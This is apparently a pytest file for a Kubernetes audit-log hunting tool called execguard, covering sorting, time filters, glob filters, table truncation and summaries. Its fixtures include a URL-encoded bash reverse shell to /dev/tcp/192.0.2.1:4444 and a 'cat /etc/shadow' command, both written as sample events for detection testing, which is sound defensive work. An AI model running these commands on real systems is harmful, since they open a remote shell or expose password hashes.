"""Hunt output a responder can use: time order across files, --sort, filters, the table's cap, the summary."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from typer.testing import CliRunner

from execguard.cli import app
from execguard.model import Actor, Alert, Event, RuleMatch, SourceRef, Target
from execguard.pipeline import units
from execguard.pipeline.filters import AlertFilter, parse_when, time_ns
from execguard.pipeline.order import KEYS, SpillSorter
from execguard.pipeline.stages import Pipeline, sortable
from execguard.sinks.summary import Summary
from execguard.sinks.table import TableSink

EXE = Path(sys.executable).parent / "execguard"


def k8s_exec(i: int, when: str, argv: list[str], user: str = "alice", ns: str = "prod", pod: str | None = None) -> dict[str, Any]:
    q = "&".join(f"command={a}" for a in argv)
    pod = pod or f"web-{i}"
    return {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": f"id-{i}-{when}", "stage": "ResponseStarted",
        "verb": "create", "requestURI": f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container=app&stdin=true&tty=true",
        "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": ["10.1.2.3"],
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": ns, "name": pod},
        "responseStatus": {"code": 101}, "stageTimestamp": when,
    }  # fmt: skip


def write(path: Path, records: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def hunt(*args: str, input: bytes | None = None) -> Any:
    return CliRunner().invoke(app, ["hunt", *args], input=input, catch_exceptions=False)


def jsonl(res: Any) -> list[dict[str, Any]]:
    assert res.exit_code == 0, res.stderr
    return [json.loads(x) for x in res.stdout.splitlines()]


@pytest.fixture
def two_files(tmp_path: Path) -> list[Path]:
    """Two files whose times interleave: a at :01 :03 :05, b at :02 :04 (b's :04 is a reverse shell)."""
    a = write(tmp_path / "a.log", [k8s_exec(i, f"2026-11-29T10:00:0{t}.000000Z", ["id"], ns="prod") for i, t in ((1, 1), (2, 3), (3, 5))])
    b = write(
        tmp_path / "b.log",
        [
            k8s_exec(4, "2026-11-29T10:00:02.000000Z", ["ls"], user="bob", ns="dev"),
            k8s_exec(5, "2026-11-29T10:00:04.000000Z", ["sh", "-c", "bash+-i+>%26+/dev/tcp/192.0.2.1/4444+0>%261"], user="bob", ns="dev"),
        ],
    )
    return [a, b]


def test_time_order_across_files(two_files: list[Path]) -> None:
    alerts = jsonl(hunt("-o", "jsonl", *map(str, two_files)))
    assert [a["time"][17:19] for a in alerts] == ["01", "02", "03", "04", "05"]
    # the same with the files the other way round: the order is the logs', not the command line's
    again = jsonl(hunt("-o", "jsonl", *map(str, reversed(two_files))))
    assert [a["time"] for a in again] == [a["time"] for a in alerts]


def test_sort_input_and_severity(two_files: list[Path]) -> None:
    by_input = jsonl(hunt("-o", "jsonl", "--sort", "input", *map(str, two_files)))
    assert [a["time"][17:19] for a in by_input] == ["01", "03", "05", "02", "04"]
    by_sev = jsonl(hunt("-o", "jsonl", "--sort", "severity", *map(str, two_files)))
    assert by_sev[0]["severity"] == "critical" and by_sev[0]["time"][17:19] == "04"
    assert [a["time"][17:19] for a in by_sev[1:]] == ["01", "02", "03", "05"]  # then by time


def test_bad_sort_is_a_usage_error(two_files: list[Path]) -> None:
    res = hunt("--sort", "size", str(two_files[0]))
    assert res.exit_code == 2 and "'size'" in res.stderr


def test_stdin_streams_in_input_order(two_files: list[Path]) -> None:
    data = two_files[1].read_bytes() + two_files[0].read_bytes()
    res = hunt("-o", "jsonl", "--sort", "time", "-", input=data)
    assert [a["time"][17:19] for a in jsonl(res)] == ["02", "04", "01", "03", "05"]
    assert "printed as they arrive" in res.stderr
    assert not sortable(["-"]) and sortable([str(two_files[0]), str(two_files[0].parent)])


def test_streaming_pipeline_passes_each_alert_on_at_once() -> None:
    """With a stream among the inputs nothing waits for the end: each alert is emitted when it is fed."""
    pipe = Pipeline(AlertFilter(users=["a*"]), sort=None)
    assert [a.event.source.line for a in pipe.feed(alert(1, "low", "2026-01-01T00:00:02Z", user="ann"))] == [1]
    assert list(pipe.feed(alert(2, "low", "2026-01-01T00:00:01Z", user="bob"))) == []  # filtered out
    sorted_pipe = Pipeline(sort="time")
    assert list(sorted_pipe.feed(alert(1, "low", "2026-01-01T00:00:02Z"))) == []  # held until the end
    assert [a.event.source.line for a in sorted_pipe.drain()] == [1]


def test_since_until(two_files: list[Path]) -> None:
    paths = list(map(str, two_files))
    got = jsonl(hunt("-o", "jsonl", "--since", "2026-11-29T10:00:02Z", "--until", "2026-11-29T11:00:04+01:00", *paths))
    assert [a["time"][17:19] for a in got] == ["02", "03", "04"]
    # relative to now: these logs are from the past, so the last 2 hours hold none of them, 100000 days all
    res = hunt("-o", "jsonl", "--since", "2h", *paths)
    assert len(jsonl(res)) == 0 and "(5 filtered out)" in " ".join(res.stderr.split())
    assert len(jsonl(hunt("-o", "jsonl", "--since", "100000d", *paths))) == 5
    assert len(jsonl(hunt("-o", "jsonl", "--until", "1m", *paths))) == 5


def test_since_rejects_nonsense(two_files: list[Path]) -> None:
    res = hunt("--since", "yesterday-ish", str(two_files[0]))
    assert res.exit_code == 2 and "RFC 3339" in res.stderr


def test_parse_when() -> None:
    now = 10_000 * 10**9
    assert parse_when("2h", now) == now - 7200 * 10**9
    assert parse_when("1h30m", now) == now - 5400 * 10**9
    assert parse_when("1d", now) == now - 86400 * 10**9
    assert parse_when("2026-11-29T03:37:04.650233073Z") == 1795923424650233073
    for bad in ("", "2", "2x", "h", "2026-13-01T00:00:00Z", "soon"):
        with pytest.raises(ValueError):
            parse_when(bad, now)
    # nanosecond and microsecond stamps and offsets order together
    assert time_ns("2026-11-29T03:37:04.1Z") == time_ns("2026-11-29T05:37:04.100000+02:00")
    assert time_ns(None) is None and time_ns("not a time") is None


def test_filters_by_namespace_pod_user_rule(two_files: list[Path]) -> None:
    paths = list(map(str, two_files))
    assert {a["target"]["namespace"] for a in jsonl(hunt("-o", "jsonl", "--namespace", "de*", *paths))} == {"dev"}
    assert len(jsonl(hunt("-o", "jsonl", "--namespace", "dev", "--namespace", "prod", *paths))) == 5  # repeatable: either
    assert [a["target"]["pod"] for a in jsonl(hunt("-o", "jsonl", "--pod", "web-[12]", *paths))] == ["web-1", "web-2"]
    assert {a["actor"]["user"] for a in jsonl(hunt("-o", "jsonl", "--user", "bob", *paths))} == {"bob"}
    rev = jsonl(hunt("-o", "jsonl", "--rule", "*reverse*", *paths))
    assert len(rev) == 1 and any("reverse" in r["rule_id"] for r in rev[0]["rules"])
    # filters add up: bob in prod has no alert
    res = hunt("--user", "bob", "--namespace", "prod", *paths)
    assert res.exit_code == 0 and "No alerts." in res.stdout
    assert jsonl(hunt("-o", "jsonl", "--user", "Alice", *paths)) == []  # globs are case-sensitive, as names are


def alert(i: int, severity: str, when: str | None, user: str = "u", rule: str = "r") -> Alert:
    ev = Event(time=when, source=SourceRef("k8s-audit", "f", i), actor=Actor(user=user), target=Target(namespace="ns", pod=f"p{i}"))
    ev.command = ["id"]
    return Alert(ev, [RuleMatch(f"{rule}-{severity}", "t", severity, [], f"reason {i}")])


def test_filter_drops_alerts_without_time_only_for_a_window() -> None:
    a = alert(1, "low", None)
    assert AlertFilter().keep(a) and AlertFilter(pods=["p*"]).keep(a)
    f = AlertFilter(since=0)
    assert not f.keep(a) and f.dropped == 1


def test_spill_sorter_keeps_few_in_memory(tmp_path: Path) -> None:
    sorter = SpillSorter(KEYS["time"], limit=50)
    stamps = [(i * 7919) % 1000 for i in range(1000)]  # a shuffle of 0..999
    for seq, s in enumerate(stamps):
        sorter.add(alert(seq, "low", f"2026-01-01T00:{s // 60:02d}:{s % 60:02d}Z"), seq)
        assert len(sorter.buffer) < 50
    assert len(sorter.runs) == 20 and Path(sorter.path).exists()
    path = sorter.path
    out = [a.event.time for a, _ in sorter.drain()]
    assert out == sorted(out) and len(out) == 1000
    assert not Path(path).exists()  # the spill file goes with the sort


def test_pipeline_sorted_run_gives_what_was_read_on_interrupt() -> None:
    def alerts() -> Any:
        yield alert(1, "low", "2026-01-01T00:00:02Z")
        yield alert(2, "high", "2026-01-01T00:00:01Z")
        raise KeyboardInterrupt

    got: list[Alert] = []
    with pytest.raises(KeyboardInterrupt):
        Pipeline(sort="time", run_size=1).run(alerts(), got.append)
    assert [a.event.source.line for a in got] == [2, 1]


def test_parallel_same_as_serial_with_options(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, two_files: list[Path]) -> None:
    monkeypatch.setattr(units, "UNIT", 4 << 10)
    monkeypatch.setattr(units, "MIN_TOTAL", 0)
    big = tmp_path / "big.log"
    users = ["alice", "bob", "carol"]
    big.write_text(
        "".join(
            json.dumps(k8s_exec(i, f"2026-11-29T{9 + i % 3:02d}:{i % 60:02d}:{(i * 7) % 60:02d}.000000Z",
                                ["sh", "-c", "cat+/etc/shadow"] if i % 11 == 0 else ["id"], user=users[i % 3], ns=f"ns{i % 4}")) + "\n"
            for i in range(600)
        )
    )  # fmt: skip
    opts = ["--since", "2026-11-29T09:30:00Z", "--namespace", "ns[123]", "--user", "?o*", "--user", "alice", "--sort", "severity"]
    outs = []
    for jobs in ("1", "2"):
        res = hunt("-o", "jsonl", "-j", jobs, *opts, str(big), *map(str, two_files))
        outs.append(res.stdout)
        assert res.exit_code == 0, res.stderr
    assert outs[0] == outs[1] and outs[0].count("\n") > 100


def test_table_keeps_the_most_severe_when_it_must_cut() -> None:
    buf = io.StringIO()
    sink = TableSink(Console(file=buf, width=100), limit=10)
    for i in range(100):
        sink.write(alert(i, "low", f"2026-01-01T00:00:{i % 60:02d}Z"))
    for i in range(100, 103):  # the severe ones come last, as in a long log
        sink.write(alert(i, "critical" if i < 102 else "high", f"2026-01-01T01:00:0{i - 100}Z"))
    shown = sink.alerts
    assert [a.severity for a in shown[:3]] == ["critical", "critical", "high"]
    assert all(a.severity == "low" for a in shown[3:]) and len(shown) == 10
    low_times = [a.event.time or "" for a in shown[3:]]
    assert low_times == sorted(low_times) and low_times[0] == "2026-01-01T00:00:00Z"  # earliest of the rest
    sink.close()
    text = buf.getvalue()
    assert "93 more alerts not shown (93 low)" in text and "-o jsonl" in text and "--limit" in text
    assert text.index("CRITICAL") < text.index(" LOW ")


def test_table_under_its_limit_keeps_arrival_order() -> None:
    buf = io.StringIO()
    sink = TableSink(Console(file=buf, width=100), limit=10)
    for i, sev in enumerate(["low", "critical", "medium"]):
        sink.write(alert(i, sev, f"2026-01-01T00:00:0{i}Z"))
    assert [a.severity for a in sink.alerts] == ["low", "critical", "medium"]
    sink.close()
    assert "not shown" not in buf.getvalue()


def test_cli_limit(two_files: list[Path]) -> None:
    res = hunt("--limit", "1", *map(str, two_files))
    assert res.exit_code == 0
    assert "CRITICAL" in res.stdout and "4 more alerts not shown (4 low)" in " ".join(res.stdout.split())
    res = hunt("--limit", "0", *map(str, two_files))
    assert "not shown" not in res.stdout and res.stdout.count("source ") == 5


def test_summary_by_rule_and_actor(two_files: list[Path]) -> None:
    res = hunt(*map(str, two_files))
    err = res.stderr.splitlines()
    i = next(n for n, line in enumerate(err) if line.startswith("by rule: "))
    assert "alerts:" in " ".join(err[:i])  # after the summary line
    assert err[i + 1].startswith("by actor: ")
    assert "alice 3" in err[i + 1] and "bob 2" in err[i + 1]
    assert "by rule" not in hunt("--top", "0", *map(str, two_files)).stderr
    assert "by rule" not in hunt("-q", *map(str, two_files)).stderr
    s = Summary(top=1)
    for i, user in enumerate(["a", "b", "b"]):
        s.add(alert(i, "low", None, user=user))
    assert s.lines() == ["by rule: r-low 3", "by actor: b 2 (+1 more actors)"]
    assert Summary().lines() == []


def test_16mb_argv_prints_a_small_table(tmp_path: Path) -> None:
    huge = "A" * (16 << 20)
    path = write(tmp_path / "big.log", [k8s_exec(1, "2026-11-29T10:00:00.000000Z", ["sh", "-c", "echo+" + huge])])
    res = subprocess.run([str(EXE), "hunt", str(path)], capture_output=True, check=False, timeout=300)
    assert res.returncode == 0
    assert len(res.stdout) < 20_000 and b"more characters; -o jsonl has them all" in res.stdout
    res = subprocess.run([str(EXE), "hunt", "-q", "-o", "jsonl", str(path)], capture_output=True, check=False, timeout=300)
    assert json.loads(res.stdout)["command"][2] == "echo " + huge  # jsonl keeps the whole argv


def test_piped_table_breaks_no_word_that_fits(tmp_path: Path) -> None:
    pod = "pod-" + "x" * 150  # longer than any line
    path = write(tmp_path / "a.log", [k8s_exec(1, "2026-11-29T10:00:00.000000Z", ["cat", "/etc/" + "y" * 120], pod=pod)])
    env = {"PATH": "/usr/bin:/bin"}
    out = subprocess.run([str(EXE), "hunt", str(path)], capture_output=True, check=True, env=env).stdout.decode()
    assert pod in out and "/etc/" + "y" * 120 in out  # whole: no COLUMNS, no wrapping
    assert "\x1b[" not in out
    assert all(len(line.split()[0]) <= 6 for line in out.splitlines()[2:] if line.startswith(" "))  # labelled lines
    assert max(map(len, out.splitlines())) > 150  # COLUMNS unset: one line per field, whatever its length
    narrow = subprocess.run([str(EXE), "hunt", str(path)], capture_output=True, check=True, env={**env, "COLUMNS": "60"})
    lines = narrow.stdout.decode().splitlines()
    assert max(map(len, lines)) <= 60
    assert any(line.strip() == "through the Kubernetes API server" for line in lines)  # wrapped at a space
    assert "alice from 10.1.2.3" in narrow.stdout.decode()  # words that fit a line are never cut
    assert pod in "".join(narrow.stdout.decode().split())  # longer than a line: cut, nothing lost
